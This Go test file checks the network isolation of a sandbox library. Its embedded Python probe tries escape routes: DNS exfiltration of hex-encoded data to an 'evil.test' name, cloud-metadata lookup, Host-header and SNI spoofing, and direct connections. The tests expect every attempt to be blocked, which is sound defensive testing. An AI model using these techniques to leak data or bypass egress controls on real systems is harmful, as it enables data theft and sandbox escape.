//go:build linux

package network

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"pinfold"
	"pinfold/sandbox"
	"pinfold/test/ledger"
)

// canary counts who reaches it.
func canary(t *testing.T, address string) (port int, hits *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	hits = new(atomic.Int64)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			_, _ = io.WriteString(c, "canary")
			_ = c.Close()
		}
	}()
	return l.Addr().(*net.TCPAddr).Port, hits
}

// tries is a program that tries ways out beside the declared one. It prints what it
// reached. In front come: P, the canary's port; W and S, the endpoints' ports.
const tries = `
import socket, ssl, http.client
def attempt(name, f):
    try: print(name, f())
    except Exception as e: print(name, 'no', type(e).__name__)
def connect(host, port):
    s = socket.create_connection((host, port), 3); return s.recv(100)
def direct(family, kind, to):
    s = socket.socket(family, kind); s.settimeout(3); s.connect(to); s.send(b'x'); return 'sent'
door = socket.gethostbyname('web.test')
attempt('loopback', lambda: connect('127.0.0.1', P))
attempt('another-port', lambda: connect(door, P))
attempt('resolver-address', lambda: connect('127.66.0.1', P))
attempt('address', lambda: direct(socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', P)))
attempt('dns-server', lambda: direct(socket.AF_INET, socket.SOCK_DGRAM, ('8.8.8.8', 53)))
attempt('v6', lambda: direct(socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', P)))
attempt('secret-name', lambda: socket.getaddrinfo('73656372657473.evil.test', 443))
attempt('metadata-name', lambda: socket.getaddrinfo('metadata.google.internal', 80))
def host(value, target='/'):
    c = http.client.HTTPConnection('web.test', W, timeout=5); c.putrequest('GET', target, skip_host=True); c.putheader('Host', value); c.endheaders()
    r = c.getresponse(); return r.status, 'reached' in r.read().decode()
attempt('host', lambda: host('evil.test'))
attempt('absolute-form', lambda: host('web.test', 'http://evil.test/'))
def sni(name):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    s = c.wrap_socket(socket.create_connection(('secure.test', S), 5), server_hostname=name); s.send(b'GET / HTTP/1.1\r\nHost: secure.test\r\nConnection: close\r\n\r\n'); return s.recv(100)
attempt('sni', lambda: sni('evil.test'))
attempt('twin', lambda: sni('secure.test'))
`

// A program with a declared endpoint reaches that, and no way leads from it to anything
// else: no other port, address, name or virtual host (NE-02, NE-06, NE-08, NE-09).
func TestNothingElse(t *testing.T) {
	ledger.Check(t)
	newWorld(t).nothingElse(t)
}

// nothingElse runs a program that tries.
func (w *world) nothingElse(t *testing.T) {
	port, hits := canary(t, "127.0.0.1:0")
	front := fmt.Sprintf("P, W, S = %d, %d, %d\n", port, w.web.Ports[0], w.secure.Ports[0])
	r := w.run(t, "python", front+tries, w.web, w.secure)
	if r.Status != sandbox.StatusSucceeded {
		t.Fatalf("%s %s", r.Stdout, r.Stderr)
	}
	got := map[string]string{}
	for line := range strings.Lines(r.Stdout) {
		key, value, _ := strings.Cut(strings.TrimSpace(line), " ")
		got[key] = value
	}
	for key, value := range got {
		if key != "twin" && !strings.HasPrefix(value, "no ") {
			t.Errorf("%s: %s", key, value)
		}
	}
	if len(got) != 12 || !strings.Contains(got["twin"], "200 OK") {
		t.Errorf("%v", got)
	}
	if hits.Load() != 0 {
		t.Errorf("the canary was hit %d times", hits.Load())
	}
	reasons := map[string]bool{}
	for _, d := range r.Network.Denied {
		reasons[d.Host+" "+string(d.Reason)] = true
	}
	for _, want := range []string{
		"73656372657473.evil.test not_declared", "metadata.google.internal not_declared", "web.test host_mismatch", "web.test malformed", "secure.test sni_mismatch",
	} {
		if !reasons[want] {
			t.Errorf("%s is not among %v", want, r.Network.Denied)
		}
	}
	// The control: outside of a sandbox the canary is reached.
	if c, err := net.Dial("tcp", "127.0.0.1:"+strconv.Itoa(port)); err != nil {
		t.Error(err)
	} else {
		_ = c.Close()
	}
}

// One sandbox's doors are not another's (NE-13).
func TestDoorsAreNobodyElses(t *testing.T) {
	ledger.Check(t)
	w := newWorld(t)
	box, err := w.local.Create(t.Context(), sandbox.Create{Network: sandbox.Network{Endpoints: []sandbox.Endpoint{w.web}}})
	if err != nil {
		t.Fatal(err)
	}
	code := fmt.Sprintf("curl -sS -m 5 http://127.66.0.2:%d/", w.web.Ports[0])
	other := w.run(t, "sh", code, w.secure)
	if other.Status != sandbox.StatusFailed || strings.Contains(other.Stdout, "reached") {
		t.Errorf("another sandbox reached it: %s", other.Stdout)
	}
	var out bytes.Buffer
	p, err := box.Exec(t.Context(), sandbox.Command{Shell: fmt.Sprintf("curl -sS http://web.test:%d/", w.web.Ports[0])}, pinfold.ExecOptions{Stdout: &out})
	if err != nil || p.Status != sandbox.StatusSucceeded || !strings.Contains(out.String(), "reached web.test") {
		t.Fatalf("its own: %+v %v %s", p, err, out.String())
	}
	info, err := box.Info(t.Context())
	if err != nil || info.Network == nil || info.Network.Endpoints[0].Connections != 1 {
		t.Errorf("%+v %v", info.Network, err)
	}
}

// endless is a server that never stops to send, and says how many it sends to.
func endless(t *testing.T) (sandbox.Endpoint, *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	open := new(atomic.Int64)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			open.Add(1)
			go func() {
				defer open.Add(-1)
				defer c.Close()
				for {
					_ = c.SetWriteDeadline(time.Now().Add(20 * time.Millisecond))
					_, err := c.Write(make([]byte, 1000))
					if err != nil && !strings.Contains(err.Error(), "timeout") {
						return
					}
					time.Sleep(5 * time.Millisecond)
				}
			}()
		}
	}()
	return at("stream.test", l), open
}

func await(t *testing.T, what string, f func() bool) {
	t.Helper()
	for begun := time.Now(); !f(); time.Sleep(5 * time.Millisecond) {
		if time.Since(begun) > 30*time.Second {
			t.Fatal("in vain: ", what)
		}
	}
}

// When a sandbox ends in the midst of a transfer, so do its connections.
func TestTheEndCutsConnections(t *testing.T) {
	ledger.Check(t)
	local := open(t)
	stream, connections := endless(t)
	box, err := local.Create(t.Context(), sandbox.Create{Network: sandbox.Network{Endpoints: []sandbox.Endpoint{stream}}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := box.Start(t.Context(), sandbox.Command{Args: []string{"python3", "-c", fmt.Sprintf("import socket\ns = socket.create_connection(('stream.test', %d))\nwhile s.recv(1 << 16): pass", stream.Ports[0])}}); err != nil {
		t.Fatal(err)
	}
	await(t, "a connection", func() bool { return connections.Load() == 1 })
	if _, err := box.Destroy(t.Context()); err != nil {
		t.Fatal(err)
	}
	await(t, "its end", func() bool { return connections.Load() == 0 })
}

const victimEnv = "PINFOLD_TEST_NETWORK_VICTIM"

// When the process that passes everything on is killed in the midst of it, nothing passes
// any more (NE-17): connections break, and the sandbox is gone.
func TestKilledInMidTransfer(t *testing.T) {
	ledger.Check(t)
	if endpoint := os.Getenv(victimEnv); endpoint != "" {
		victim(t, endpoint)
		return
	}
	stream, connections := endless(t)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	cmd := exec.CommandContext(ctx, "/proc/self/exe", "-test.run=^TestKilledInMidTransfer$")
	cmd.Env = append(os.Environ(), victimEnv+"="+stream.String())
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	await(t, "a connection", func() bool { return connections.Load() == 1 })
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	await(t, "its end", func() bool { return connections.Load() == 0 })
	open(t) // removes what the killed one left behind, as every next one does
}

// victim runs a program that reads for ever.
func victim(t *testing.T, endpoint string) {
	e, err := sandbox.ParseEndpoint(endpoint)
	if err != nil {
		t.Fatal(err)
	}
	w := &world{local: open(t)}
	w.run(t, "python", fmt.Sprintf("import socket\ns = socket.create_connection(('stream.test', %d))\nwhile s.recv(1 << 16): pass", e.Ports[0]), e)
}
